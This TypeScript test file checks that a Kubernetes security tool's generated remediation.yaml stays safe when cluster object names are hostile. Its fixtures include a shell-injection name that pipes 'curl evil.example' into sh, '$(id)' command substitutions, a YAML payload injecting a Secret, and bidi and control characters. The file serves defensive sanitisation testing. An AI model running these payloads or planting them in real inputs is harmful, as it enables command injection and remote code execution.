/**
 * Names, namespaces and labels from offline input may hold what no cluster accepts: line breaks,
 * `---`, shell metacharacters, bidi overrides. In remediation.yaml they stay data: no injected
 * document, no unquoted shell word, no invisible character, and no manifest the API server would refuse.
 */
import { describe, expect, it } from 'vitest';
import { DiagnosticList } from '../../lib/core/diagnostics.js';
import { snapshotFromObjects } from '../../lib/core/evidence/buildSnapshot.js';
import { parseManifestText } from '../../lib/core/manifests/parseManifestText.js';
import { assessCluster } from '../../lib/core/report/assessCluster.js';
import { bundleYaml } from '../../lib/core/techniques/bundle.js';
import { TECHNIQUES } from '../../lib/core/techniques/catalog.js';
import { manifestProblem } from '../../lib/core/techniques/manifestValidation.js';

type Obj = Record<string, unknown>;

const HOSTILE_NAMES = [
  'web\n---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: injected',
  "api'; curl evil.example | sh; echo '",
  'job`id`$(id)',
  'pod\u202Egpj.exe',
  'zero\u200Bwidth\u001b[2J',
];

function deployment(namespace: string, name: string, labels: Record<string, string>): Obj {
  return {
    apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name, namespace },
    spec: {
      template: {
        metadata: { labels },
        spec: { automountServiceAccountToken: true, containers: [{ name: 'main', image: 'app', env: [{ name: 'DB_PASSWORD', value: 'x' }] }] },
      },
    },
  };
}

const objects: Obj[] = [
  { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'shop' } },
  { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'bad;ns$(id)' } },
  { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'default', namespace: 'shop' } },
  { apiVersion: 'v1', kind: 'Node', metadata: { name: 'node-1' }, status: { addresses: [{ type: 'InternalIP', address: '10.0.1.5' }] } },
  {
    apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'kubernetes', namespace: 'default' },
    subsets: [{ addresses: [{ ip: '10.0.0.10' }], ports: [{ name: 'https', port: 443, protocol: 'TCP' }] }],
  },
  ...HOSTILE_NAMES.map((name, i) => deployment('shop', name, { app: `app-${i}` })),
  deployment('shop', 'plain', { app: 'we\u202Eird label' }),
  deployment('bad;ns$(id)', 'web', { app: 'web' }),
];

describe('remediation.yaml of a cluster with hostile names', () => {
  const snapshot = snapshotFromObjects({
    objects: objects.map((object) => ({ source: 'hostile.yaml', object })),
    identity: { name: 'evil\n---\nkind: Secret\u202E', source: 'manifests' },
    cloudFile: { vpcCni: { enableNetworkPolicy: true } },
  });
  const assessment = assessCluster(snapshot, TECHNIQUES);
  const yaml = bundleYaml(assessment.bundle, snapshot.cluster, 'remediation.yaml');

  it('reads back as exactly the bundle: no injected document, and every manifest valid', () => {
    // Act
    const diagnostics = new DiagnosticList();
    const readBack = parseManifestText('remediation.yaml', yaml, diagnostics).map((o) => o.object);

    // Assess
    expect(diagnostics.all).toEqual([]);
    expect(readBack).toEqual(assessment.bundle.manifests);
    expect(readBack.length).toBeGreaterThan(0);
    expect(readBack.map((m) => (m as Obj).kind)).not.toContain('Secret');
    for (const m of readBack) expect(manifestProblem(m)).toBeUndefined();
  });

  it('keeps every hostile string out of it raw: comments stay comments, commands quote every name', () => {
    // Assess
    for (const ch of ['\u202A', '\u202E', '\u2066', '\u2069', '\u200B', '\u001b', '\r']) expect(yaml).not.toContain(ch);
    const lines = yaml.split('\n');
    const commands = lines.filter((l) => l.startsWith('# kubectl patch'));
    expect(commands.length).toBeGreaterThan(0);
    for (const line of commands) expect(line).toMatch(/^# kubectl patch '[^']*' '(?:[^']|'\\'')*' -n '(?:[^']|'\\'')*' --type strategic -p '[^']*'$/);
    // A name that breaks a line or carries control characters is not offered as a command at all.
    expect(yaml).toContain('not a valid Kubernetes name');
    for (const line of lines.filter((l) => l.includes('curl evil.example'))) expect(line).toMatch(/^# kubeseg wrote no command for /);
  });

  it('says why a suggestion for an object with an invalid name has no manifest', () => {
    // Assess
    const texts = assessment.findings.filter((f) => f.status === 'fail' && f.resource.namespace === 'bad;ns$(id)').map((f) => f.remediation?.text ?? '');
    expect(texts.some((t) => t.includes('kubeseg wrote no manifest: the API server would reject it (metadata.namespace'))).toBe(true);
  });
});
